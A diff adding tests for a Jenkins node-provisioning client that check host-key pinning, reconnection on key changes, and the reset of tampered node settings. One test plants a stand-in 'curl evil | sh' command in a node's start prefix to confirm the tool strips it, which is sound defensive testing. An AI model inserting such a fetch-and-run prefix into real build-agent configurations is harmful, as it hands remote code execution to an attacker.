@@ -200,9 +200,42 @@ def test_changed_node_is_reconfigured_through_config_xml(emu, api, keys):
     other = sshkeys.generate()
     changed = spec(keys, executors=4, labels=("docker",), host_key=HostKey.parse(other.public_line))
     assert api.ensure_node(changed) == "updated"
-    assert posts(emu) == [("POST", "/computer/agent-1/config.xml")]
+    # A changed pinned key: the controller keeps the old connection, so the
+    # node is disconnected and launched again.
+    assert [p[1].split("?")[0] for p in posts(emu)] == [
+        "/computer/agent-1/config.xml", "/computer/agent-1/doDisconnect", "/computer/agent-1/launchSlaveAgent"]
     fields = node_fields(api.node_config("agent-1"))
     assert (fields["numExecutors"], fields["labels"], fields["key"]) == ("4", ("docker",), other.b64)
+
+
+def test_changed_executors_only_keep_the_connection(emu, api, keys):
+    api.ensure_node(spec(keys))
+    clear(emu)
+    assert api.ensure_node(spec(keys, executors=3)) == "updated"
+    assert posts(emu) == [("POST", "/computer/agent-1/config.xml")]
+
+
+def test_a_start_prefix_someone_added_is_reset(emu, api, keys):
+    api.ensure_node(spec(keys))
+    xml = api.node_config("agent-1").replace("<launchTimeoutSeconds>",
+                                             "<prefixStartSlaveCmd>curl evil | sh; </prefixStartSlaveCmd>"
+                                             "<launchTimeoutSeconds>")
+    api.server.reconfig_node("agent-1", xml)
+    assert "evil" in api.node_config("agent-1")
+    assert api.ensure_node(spec(keys)) == "updated"
+    assert "evil" not in api.node_config("agent-1")
+
+
+def test_a_controller_that_drops_the_pinned_key_fails_creation(emu, api, keys, monkeypatch):
+    from tests.fakejenkins import model as emu_model
+
+    real = emu_model._bind_strategy
+    monkeypatch.setattr(emu_model, "_bind_strategy", lambda obj: emu_model.HostKeyStrategy(emu_model.NON_VERIFYING))
+    with pytest.raises(JenkinsError) as err:
+        api.ensure_node(spec(keys))
+    assert "without the pinned host key" in err.value.message
+    assert api.node_config("agent-1") is None  # deleted again
+    monkeypatch.setattr(emu_model, "_bind_strategy", real)
 
 
 def test_lost_creation_race_compares_and_carries_on(emu, api, keys, monkeypatch):
